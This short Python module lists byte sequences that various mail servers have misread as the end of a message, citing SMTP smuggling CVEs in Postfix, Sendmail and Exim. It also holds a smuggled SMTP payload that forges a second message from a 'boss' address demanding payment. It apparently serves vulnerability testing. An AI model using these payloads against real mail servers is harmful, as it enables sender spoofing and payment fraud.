"""What one server has taken for a letter's end and another for its middle."""

from __future__ import annotations

# CVE-2023-51764 (Postfix: LF . CR LF), -51765 (Sendmail), -51766 (Exim: LF . LF), CVE-2023-38504 and their kin.
TRICKS = [
    b"\n.\n",
    b"\n.\r\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r\n.\n",
    b"\r\r\n.\r\r\n",
    b"\n\n.\r\n",
    b"\r\n\x00.\r\n",
    b"\r\n.\x00\r\n",
    b"\r\n.\r\r\n",
    b"\r\n. \r\n",
    b"\r\n..\r\n",
    b"\r\n.\r\x00\n",
    b"\r\x00\n.\r\x00\n",
    b"\n\x00.\r\n",
    b"\x00\r\n.\n",
    b"\r\n.\n\r",
    b"\n.\r",
    b"\r.\n",
    b"\x0b.\x0c",
    b"\x85.\x85",
    "\u2028.\u2028".encode(),
]
# What comes behind: it should be the letter's text, and is a letter of its own for whoever falls for the trick.
SMUGGLED = b"MAIL FROM:<boss@example.org>\r\nRCPT TO:<bob@example.net>\r\nDATA\r\nPay!\r\n.\r\n"
